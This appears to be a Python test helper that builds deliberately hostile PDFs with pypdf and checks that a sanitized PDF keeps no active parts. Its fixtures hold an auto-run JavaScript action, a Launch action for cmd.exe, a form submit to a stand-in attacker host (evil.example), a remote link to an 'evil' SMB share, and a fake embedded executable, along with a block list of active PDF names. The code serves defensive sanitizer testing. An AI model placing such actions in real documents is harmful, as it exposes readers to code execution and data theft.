"""PDFs that try to act when opened, built with pypdf, and a check that reparses a
stored PDF and lists every part that can act."""

from __future__ import annotations

import io

from pypdf import PdfReader, PdfWriter
from pypdf.annotations import Link
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

TEXT = "HUKOU SCAN 2026"
SAFE_URL = "https://www.chsi.com.cn/"

FEATURES = (
    "open_action",
    "document_aa",
    "names_javascript",
    "page_aa",
    "annotation_aa",
    "javascript_link",
    "launch_link",
    "gotor_link",
    "submit_form_link",
    "import_data_link",
    "javascript_uri_link",
    "acroform_xfa",
    "embedded_file",
    "file_attachment_annotation",
    "outline_javascript",
)

# Names and words that mean "this part acts": none may be left in a cleaned file.
ACTING = (
    "/JavaScript", "/JS", "/Launch", "/GoToR", "/SubmitForm", "/ImportData", "/AcroForm",
    "/XFA", "/EmbeddedFile", "/EmbeddedFiles", "/FileAttachment", "/OpenAction", "/AA",
    "/Widget", "/Outlines", "javascript:", "app.alert", "cmd.exe", "MZ-payload",
)  # fmt: skip


def _name(text: str) -> NameObject:
    return NameObject(text)


def _dict(**entries) -> DictionaryObject:
    return DictionaryObject({_name(f"/{k}"): v for k, v in entries.items()})


def _js(code: str = "app.alert('x')") -> DictionaryObject:
    return _dict(S=_name("/JavaScript"), JS=TextStringObject(code))


def _rect(n: int) -> ArrayObject:
    return ArrayObject(
        [FloatObject(50), FloatObject(100 + 40 * n), FloatObject(300), FloatObject(130 + 40 * n)]
    )


def _annotation(writer, page, subtype: str, n: int, **entries):
    annot = _dict(Type=_name("/Annot"), Subtype=_name(subtype), Rect=_rect(n), **entries)
    ref = writer._add_object(annot)
    page.setdefault(_name("/Annots"), ArrayObject()).append(ref)
    return annot


def hostile_pdf(*features: str) -> bytes:
    """One page with text and a plain web link, plus every feature asked for."""
    writer = PdfWriter()
    page = writer.add_blank_page(595, 842)
    font = writer._add_object(
        _dict(Type=_name("/Font"), Subtype=_name("/Type1"), BaseFont=_name("/Helvetica"))
    )
    page[_name("/Resources")] = _dict(Font=_dict(F1=font))
    content = DecodedStreamObject()
    content.set_data(f"BT /F1 24 Tf 72 720 Td ({TEXT}) Tj ET".encode())
    page[_name("/Contents")] = writer._add_object(content)
    writer.add_annotation(0, Link(rect=(50, 50, 300, 80), url=SAFE_URL))
    page = writer.pages[0]
    root = writer._root_object
    for n, feature in enumerate(features):
        _FEATURES[feature](writer, page, root, n)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _open_action(writer, page, root, n):
    root[_name("/OpenAction")] = writer._add_object(_js())


def _document_aa(writer, page, root, n):
    root[_name("/AA")] = _dict(WC=_js(), DP=_js())


def _names_javascript(writer, page, root, n):
    names = root.setdefault(_name("/Names"), DictionaryObject())
    names[_name("/JavaScript")] = _dict(
        Names=ArrayObject([TextStringObject("hello"), writer._add_object(_js("app.alert(2)"))])
    )


def _page_aa(writer, page, root, n):
    page[_name("/AA")] = _dict(O=_js(), C=_js())


def _annotation_aa(writer, page, root, n):
    _annotation(
        writer, page, "/Link", n,
        A=_dict(S=_name("/URI"), URI=TextStringObject("https://example.org/")),
        AA=_dict(E=_js(), X=_js()),
    )  # fmt: skip


def _javascript_link(writer, page, root, n):
    _annotation(writer, page, "/Link", n, A=_js())


def _launch_link(writer, page, root, n):
    _annotation(
        writer, page, "/Link", n,
        A=_dict(S=_name("/Launch"), F=TextStringObject("cmd.exe"), NewWindow=NumberObject(1)),
    )  # fmt: skip


def _gotor_link(writer, page, root, n):
    _annotation(
        writer, page, "/Link", n,
        A=_dict(S=_name("/GoToR"), F=TextStringObject("\\\\evil\\share\\x.pdf"), D=ArrayObject([NumberObject(0), _name("/Fit")])),
    )  # fmt: skip


def _submit_form_link(writer, page, root, n):
    _annotation(
        writer, page, "/Link", n,
        A=_dict(S=_name("/SubmitForm"), F=TextStringObject("https://evil.example/collect")),
    )  # fmt: skip


def _import_data_link(writer, page, root, n):
    _annotation(
        writer, page, "/Link", n, A=_dict(S=_name("/ImportData"), F=TextStringObject("data.fdf"))
    )


def _javascript_uri_link(writer, page, root, n):
    _annotation(
        writer, page, "/Link", n,
        A=_dict(S=_name("/URI"), URI=TextStringObject("javascript:app.alert(1)")),
        # A plain link whose action chains on to a script.
    )  # fmt: skip
    _annotation(
        writer, page, "/Link", n + 100,
        A=_dict(S=_name("/URI"), URI=TextStringObject("https://example.net/"), Next=_js()),
    )  # fmt: skip


def _acroform_xfa(writer, page, root, n):
    xfa = DecodedStreamObject()
    xfa.set_data(b"<xdp:xdp><script>app.alert('xfa')</script></xdp:xdp>")
    widget = _annotation(
        writer, page, "/Widget", n,
        FT=_name("/Btn"), T=TextStringObject("go"), A=_js(), AA=_dict(D=_js()),
    )  # fmt: skip
    root[_name("/AcroForm")] = _dict(
        Fields=ArrayObject([writer._add_object(widget)]),
        XFA=writer._add_object(xfa),
        NeedAppearances=NumberObject(1),
    )


def _embedded_file(writer, page, root, n):
    writer.add_attachment("payload.exe", b"MZ-payload")


def _file_attachment_annotation(writer, page, root, n):
    stream = DecodedStreamObject()
    stream.set_data(b"MZ-payload")
    stream[_name("/Type")] = _name("/EmbeddedFile")
    spec = _dict(
        Type=_name("/Filespec"),
        F=TextStringObject("run.exe"),
        EF=_dict(F=writer._add_object(stream)),
    )
    _annotation(writer, page, "/FileAttachment", n, FS=writer._add_object(spec))


def _outline_javascript(writer, page, root, n):
    item = writer.add_outline_item(title="目录", page_number=0)
    item.get_object()[_name("/A")] = _js()


_FEATURES = {name: globals()[f"_{name}"] for name in FEATURES}


def acting_parts(data: bytes) -> list[str]:
    """Every acting name or word in the reparsed document: in any object reachable
    from the trailer, and anywhere in the raw bytes (orphaned objects included)."""
    found = {word for word in ACTING if word.encode() in data}
    reader = PdfReader(io.BytesIO(data), strict=True)
    seen: set[int] = set()

    def walk(obj):
        if hasattr(obj, "idnum"):
            if obj.idnum in seen:
                return
            seen.add(obj.idnum)
            obj = obj.get_object()
        if isinstance(obj, dict):
            for key, value in obj.items():
                found.update(w for w in ACTING if w in (str(key), str(value)))
                walk(value)
            if hasattr(obj, "get_data"):
                text = obj.get_data().decode("latin-1")
                found.update(w for w in ACTING if w in text)
        elif isinstance(obj, list):
            for value in obj:
                walk(value)
        else:
            found.update(w for w in ACTING if w in str(obj))

    walk(reader.trailer)
    return sorted(found)


def page_text_and_links(data: bytes) -> tuple[str, list[str]]:
    reader = PdfReader(io.BytesIO(data))
    text = "".join(page.extract_text() for page in reader.pages)
    links = [
        annot.get_object()["/A"]["/URI"]
        for page in reader.pages
        for annot in page.get("/Annots", [])
        if annot.get_object().get("/Subtype") == "/Link"
    ]
    return text, links
